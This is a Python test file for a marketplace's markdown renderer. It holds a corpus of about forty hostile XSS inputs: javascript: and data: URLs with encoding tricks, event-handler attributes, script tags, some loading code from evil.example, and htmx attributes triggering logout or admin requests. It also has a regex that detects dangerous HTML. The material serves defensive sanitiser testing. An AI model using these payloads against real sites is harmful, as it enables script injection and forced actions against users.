"""User markdown renders inert: a corpus of hostile inputs."""

from __future__ import annotations

import re

import pytest

from marketplace.rendering import render_markdown

HOSTILE = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](%6Aavascript:alert(1))",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object>",
    "<embed src=\"x.swf\">",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div hx-get=\"/logout\" hx-trigger=\"load\">x</div>",
    "<div data-hx-post=\"/admin/users\" data-hx-trigger=\"load\">x</div>",
    "<button hx-post=\"/notifications/read\">x</button>",
    "<form action=\"/logout\" method=\"post\"><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "[x](javascript:alert(1) \"title\")",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<a href=\"#\" hx-on:click=\"alert(1)\">x</a>",
    "<div hx-on::before-request=\"alert(1)\">x</div>",
]

DANGER = re.compile(
    r"<\s*(script|iframe|object|embed|style|svg|math|form|input|meta|base|link|button|img)\b"
    r"|\son\w+\s*="
    r"|\s(data-)?hx-[\w:-]+\s*="
    r"|href\s*=\s*\"\s*(javascript|vbscript|data):"
    r"|style\s*=",
    re.IGNORECASE,
)


def test_corpus_is_large_enough():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_inert(source):
    html = str(render_markdown(source))
    inner = html.removeprefix('<div class="prose" hx-disable>').removesuffix("</div>")
    assert not DANGER.search(inner), inner
    assert html.startswith('<div class="prose" hx-disable>')


def test_ordinary_markdown_survives():
    html = str(render_markdown("## Steps\n\n1. **Open** the [claim](https://example.com/claims)\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    assert "<h2>Steps</h2>" in html and "<strong>Open</strong>" in html and "<table>" in html
    assert 'href="https://example.com/claims"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_danger_pattern_catches_what_it_should():
    """Guard: the checker itself must flag raw hostile HTML, or the tests above prove nothing."""
    for raw in ("<script>x</script>", '<img src=x onerror=a()>', '<div hx-get="/x">', '<a href="javascript:x">'):
        assert DANGER.search(raw)
